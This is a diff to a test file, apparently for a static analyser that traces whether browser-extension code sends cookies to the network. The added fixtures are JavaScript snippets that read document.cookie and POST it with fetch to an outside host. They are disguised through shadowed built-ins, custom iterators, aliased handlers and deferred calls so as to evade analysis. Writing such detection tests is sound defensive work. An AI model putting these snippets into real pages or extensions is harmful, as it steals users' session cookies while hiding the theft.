@@ -25,6 +25,23 @@ const forms: Readonly<Record<string, string>> = {
     'const fail = (x) => { throw x }; let held; try { fail(document.cookie) } catch (e) { held = e }',
 };
 
+/** Code in which such a form does something else, so that the short one would hide what is sent. */
+const send = "fetch('https://in.gather.dev/', { method: 'POST', body: ";
+const others: Readonly<Record<string, string>> = {
+  'a name of the language that is declared': `const Object = { assign: () => document.cookie }; ${send}Object.assign({}, { x: 1 }) })`,
+  'a value of a loop that is given another': `const o = { a: 1 }; for (let [k, v] of Object.entries(o)) { if (k === 'a') { v = document.cookie } ${send}v }) }`,
+  'entries of its own': `const o = { entries() { return [['one', document.cookie]] } }; for (const [k, v] of o.entries()) { if (k === 'one') ${send}v }) }`,
+  'an iterator of its own': `const o = { [Symbol.iterator]: function* () { yield ['one', document.cookie] } }; for (const [k, v] of o) { if (k === 'one') ${send}v }) }`,
+  'a reduce of its own': `const list = { reduce() { return { one: document.cookie } } }; const o = list.reduce((m, [k, v]) => ({ ...m, [k]: v }), {}); ${send}o.one })`,
+  'a function in the shape of an export': `const m = { exports: {} }, jar = document.cookie; function out(a, b, get) { ${send}get() }) } out(m.exports, 'k', () => jar)`,
+  'a helper of a compiler that is none': `var _extends = () => document.cookie; ${send}_extends({}, { a: 1 }) })`,
+  'a function that is called by its name in a text': `var one = 'calm'; function run() { ${send}one }) } run(); one = document.cookie; setTimeout('run()', 10)`,
+  'a function that waits': `let one = 'calm'; async function run() { await 0; ${send}one }) } run(); one = document.cookie`,
+  'a function that is run from a list': `let one = 'calm'; const run = () => { ${send}one }) }; run(); one = document.cookie; [run][0]()`,
+  'handlers under a second name': `const heard = {}; const on = (n, f) => { (heard[n] ||= []).push(f) }; const emit = (n, v) => { for (const f of heard[n] || []) f(v) }; on('one', (v) => { ${send}v }) }); heard.two = heard.one; emit('two', document.cookie)`,
+  'a constructor that returns an object at times': `function G() { this.c = document.cookie; if (self.never) return { c: 1 } } ${send}new G().c })`,
+};
+
 describe('long forms of code', () => {
   for (const [name, code] of Object.entries(forms)) {
     it(`are read as short ones: ${name}`, () => {
@@ -34,6 +51,19 @@ describe('long forms of code', () => {
       );
     });
   }
+
+  for (const [name, code] of Object.entries(others)) {
+    it(`are read as they are where they mean something else: ${name}`, () => {
+      assert.ok(
+        flowsBetween({ 'content.js': code }).join().includes('cookies content.js > network'),
+      );
+    });
+  }
+
+  it('end for objects that are spread into each other', () => {
+    const code = `let a = {}, b = {}; a = Object.assign({}, b, { one: 1 }); b = Object.assign({}, a, { two: 2 }); const o = { ...a }; o[location.hash](); ${send}document.cookie })`;
+    assert.ok(flowsBetween({ 'content.js': code }).join().includes('cookies content.js > network'));
+  });
 
   it('bring nothing to an outer catch that an inner one takes, or that a callback throws', () => {
     const send = "fetch('https://in.gather.dev/', { method: 'POST', body: e })";
